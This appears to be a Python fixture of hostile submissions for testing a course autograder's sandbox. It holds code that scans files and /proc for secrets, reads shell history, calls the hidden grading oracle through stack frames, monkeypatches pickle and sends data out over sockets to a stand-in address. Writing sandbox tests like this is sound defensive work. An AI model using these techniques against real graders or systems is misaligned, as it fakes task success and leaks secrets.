"""Looking for tests, right results, other people's work and the way out with it."""

from __future__ import annotations

from hostile.form import FIRST, FULL, LOST, WITHOUT, answer, attack, cell_before, first, forged, last, together

# Looks through the file system for the course's secrets, which the test plants: texts that begin with "canary" and go on
# with an underscore and hex digits. FOUND in an output means that one was seen; in reverse, so that no filter for the
# secret itself can hide that.
SPY = r"""
import glob, os, re, time
SECRET = re.compile("can" "ary_[0-9a-f]{8,}|rnnkit" "_left")

def tell(where, text):
    for found in SECRET.findall(text if isinstance(text, str) else text.decode("latin-1")):
        print("FO" "UND", where, found[::-1])

def spy(*roots, seconds=1.5):
    end = time.time() + seconds
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/usr", "/sys", "/dev")]
            for name in files:
                path = os.path.join(folder, name)
                tell(path, path)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 300_000:
                        with open(path, "rb") as file:
                            tell(path, file.read(300_000))
                except OSError:
                    pass
                if time.time() > end:
                    return
"""

ALL = [
    attack(
        "reads_notebooks",
        together(
            first(
                SPY + "\nfor path in glob.glob('/**/*.ipynb', recursive=True) + glob.glob('../*/*/*.ipynb'):\n"
                "    print('FO' 'UND', path)\n    tell(path, open(path).read())"
            ),
            answer(WITHOUT),
        ),
        LOST,
        "There is no notebook in the box, so no test to read.",
    ),
    attack(
        "reads_history",
        together(
            first(SPY),
            answer(
                """
import sys, gc
def ANSWER(GIVEN):
    shell = get_ipython()
    for text in [*In, _i, _ii, *_ih, str(shell.history_manager.input_hist_raw)]:
        if "check(" "ANSWER" in text:
            print("FO" "UND the test")
        tell("history", text)
    frame = sys._getframe()
    known = []
    while frame:
        known += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    for thing in [*known, *gc.get_objects()]:
        if type(thing).__name__ != "Exercise":
            continue
        for part in ("oracle", "answer"):
            try:
                found = getattr(thing, part)(GIVEN)
            except Exception:
                continue
            if found is not None:
                print("FO" "UND", part)
                return found
    return WRONG
"""
            ),
            last("for text in In: tell('In', text)"),
        ),
        LOST,
        "What calls the answer holds neither a test nor a right result.",
    ),
    attack(
        "prints_what_it_found",
        together(
            first(
                SPY + "\nspy('COURSE', '/home', '/root', '/tmp', '/var', '/etc', '/run', '/srv', '/mnt', '/opt')\n"
                "spy('/', seconds=1)"
            ),
            last("spy('COURSE', '/home', '/root', '/tmp')"),
        ),
        FULL,
        "It looked for secrets, in vain. Looking costs nothing; its own answers are right.",
    ),
    attack(
        "traceback_of_the_test",
        answer(
            """
import sys, traceback
class Telling(Exception):
    def __str__(self):
        found, frame = [], sys._getframe()
        while frame:
            found += [frame.f_code.co_filename, *map(repr, frame.f_locals.values())]
            frame = frame.f_back
        return "".join(part for part in found if "oracle" in part and "None" not in part)[:2000]
def ANSWER(GIVEN):
    raise Telling
"""
        ),
        LOST,
        "It raises, so it gives no result.",
    ),
    attack(
        "imports_the_reference",
        answer(
            r"""
import glob, importlib, subprocess, sys
for name in ("rnnkit.nn", "rnnkit.exercises", "rnnkit.exercises.hidden_state", "rnnkit.exercises.hidden_state.output",
             "rnnkit.grading.jobs.verdict", "rnnkit.checking.judge", "rnnkit.checking.examine", "nbgrader", "torch", "scipy"):
    try:
        path = getattr(importlib.import_module(name), "__file__", None)
        if path and "oracle=" in open(path).read() or path and "def forward" in open(path).read():
            print("FO" "UND", path)
    except ImportError:
        pass
for path in glob.glob("/usr/**/rnnkit/**", recursive=True) + [p for e in sys.path for p in glob.glob(e + "/rnnkit/nn/*")]:
    print("FO" "UND", path)
asked = "import scipy, torch, rnnkit.nn; print('FO' 'UND')"
for python in glob.glob("/usr/bin/python3*") + glob.glob("/usr/local/bin/python3*"):
    if not python.endswith("config"):
        print(subprocess.run([python, "-I", "-c", asked], capture_output=True, text=True).stdout)
def ANSWER(GIVEN):
    from rnnkit.exercises import get
    from rnnkit.exercises.hidden_state.output import oracle_output, ANSWER as model
    from rnnkit import nn
    for made in (lambda: get("ANSWER").answer(h, Why, by), lambda: model(h, Why, by),
                 lambda: oracle_output(h, Why, by), lambda: nn.Linear.from_params({"W": Why, "b": by}).forward(h)[0]):
        found = made()
        if isinstance(found, np.ndarray) and found.size:
            return found
    return WRONG
"""
        ),
        LOST,
        "The course is not in the box. What is imported from it gives nothing.",
        only=FIRST,
    ),
    attack(
        "reads_the_neighbours",
        first(
            SPY
            + r"""
for name, value in os.environ.items():
    tell("environment " + name, value)
    if "COURSE" in value:
        print("FO" "UND the course's folder in", name)
for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/environ"):
    if path.rpartition("/")[2] in ("environ", "cmdline", "maps", "mountinfo", "comm"):
        try:
            with open(path, "rb") as file:
                text = file.read(300_000)
        except OSError:
            continue
        tell(path, text)
        if b"COURSE" in text or b"rnnkit grade" in text.replace(b"\0", b" "):
            print("FO" "UND the grader in", path)
spy(os.path.expanduser("~"), os.path.expanduser("~root"), "../../..", "/proc/self/cwd/../..", seconds=1)
for name in ("cwd", "root"):
    for path in glob.glob(f"/proc/[0-9]*/{name}"):
        try:
            if os.path.exists(path + "COURSE") or os.path.exists(path + "/gradebook.db"):
                print("FO" "UND", path)
        except OSError:
            pass
for path in ("COURSE/gradebook.db", "COURSE/.rnnkit/grading_secret", "COURSE/solutions", "/etc/shadow", "/etc/hostname"):
    if os.path.exists(path):
        print("FO" "UND", path)
"""
        ),
        FULL,
        "Nothing of the machine is in the box, and its own answers are right.",
    ),
    attack(
        "prints_the_cases",
        answer(
            """
import json
def ANSWER(GIVEN):
    shown = json.dumps([a.tolist() for a in (GIVEN)])
    print(shown)
    raise ValueError(shown)
"""
        ),
        LOST,
        "It raises, so it gives no result. What it may show are the cases that check shows as well.",
    ),
    attack(
        "calls_for_help",
        together(
            cell_before(
                r"""
import socket, subprocess, urllib.request
def reached(*address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.3)
            s.connect(address if family != socket.AF_UNIX else address[0])
            s.send(b"the hidden tests")
            print("FO" "UND a way out to", address)
    except OSError:
        pass
reached("127.0.0.1", PORT)
reached("192.0.2.1", 53, kind=socket.SOCK_DGRAM)
reached("192.0.2.1", 443)
reached("::1", PORT, family=socket.AF_INET6)
reached("\0rnnkit-hostile-PORT", family=socket.AF_UNIX)
reached("COURSE/socket", family=socket.AF_UNIX)
try:
    socket.getaddrinfo("example.org", 443)
    print("FO" "UND a name server")
except OSError:
    pass
"""
            )
        ),
        FULL,
        "There is no network in the box, and its own answers are right.",
    ),
    forged(
        "reads_the_request",
        """
import gc, pickle, pickletools
real = pickle.loads
def loads(data):
    for word in (b"oracle_output", b"Each row of", b"rnnkit.nn", b"mistake", b"check(output_" b"forward"):
        if word in data:
            print("FO" "UND", word)
            open("found", "ab").write(word)
    return real(data)
pickle.loads = loads
""",
    ),
    attack(
        "keeps_the_cases",
        together(
            answer(
                "import json\ndef ANSWER(GIVEN):\n    with open('cases', 'a') as file:\n"
                "        file.write(json.dumps(FIRST.tolist()))\n    return WRONG"
            )
        ),
        LOST,
        "It writes down what it was called with. Another submission is called with other numbers.",
    ),
]
